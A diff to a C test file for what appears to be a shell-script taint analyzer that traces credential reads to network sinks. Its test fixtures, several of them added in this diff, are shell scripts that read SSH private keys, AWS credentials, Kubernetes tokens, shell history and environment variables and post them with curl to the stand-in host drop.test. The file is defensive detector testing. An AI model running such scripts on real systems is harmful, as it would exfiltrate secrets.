@@ -126,7 +126,8 @@ static const char *flow_lines(const struct shell_flow *flow)
     static char out[256];
     uint32_t line[32], count = 0;
     size_t at = 0;
-    for (const struct shell_step *s = flow->step; s != NULL && count < 32; s = s->before)
+    for (const struct shell_step *s = flow->step; s != NULL && count < 32;
+         s = step_before(s, flow->source))
         if (count == 0 || line[count - 1] != s->line)
             line[count++] = s->line;
     out[0] = 0;
@@ -169,6 +170,14 @@ static const struct {
     {"into ssh", "ssh_private_key", "1", "cat /root/.ssh/id_rsa | ssh x@192.0.2.1 'cat > k'\n"},
     {"service-account token", "service_account_token", "1 2",
      "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -d \"$T\" http://drop.test/\n"},
+    {"one of two in a file", "cloud_credential_file", "1 3",
+     "cat /root/.aws/credentials > /tmp/o\nenv >> /tmp/o\ncurl -F f=@/tmp/o http://drop.test/\n"},
+    {"the other of two", "process_environment", "2 3",
+     "cat /root/.aws/credentials > /tmp/o\nenv >> /tmp/o\ncurl -F f=@/tmp/o http://drop.test/\n"},
+    {"of three in one argument", "shell_history", "2 4",
+     "A=$(cat /root/.aws/credentials)\nB=$(cat /root/.bash_history)\nC=$(env)\ncurl -d \"$A$B$C\" http://drop.test/\n"},
+    {"on its own way before they meet", "ssh_private_key", "1 2 4",
+     "K=$(cat /root/.ssh/id_rsa)\nL=$(echo $K | base64)\nA=$(cat /root/.aws/credentials)\ncurl -d \"$A-$L\" http://drop.test/\n"},
     {"find into a loop into a file", "ssh_private_key", "1 2 4",
      "for f in $(find / -name 'id_rsa*'); do\ncat $f >> /tmp/keys\ndone\ncurl -F k=@/tmp/keys http://drop.test/\n"},
 };
@@ -179,9 +188,10 @@ static void test_flows(void *parent)
         struct budget budget;
         struct shell_report *report = analyze(parent, flows[i].script, &budget);
         const struct shell_flow *flow = report->flow;
+        while (flow != NULL && strcmp(taint_rows[flow->source].name, flows[i].source) != 0)
+            flow = flow->next;
         if (!tap_ok(flow != NULL, "flow: %s", flows[i].name))
             continue;
-        tap_string(bytes_of_string(taint_rows[flow->source].name), flows[i].source, "its source");
         tap_string(bytes_of_string(flow_lines(flow)), flows[i].lines, "its lines");
     }
 }
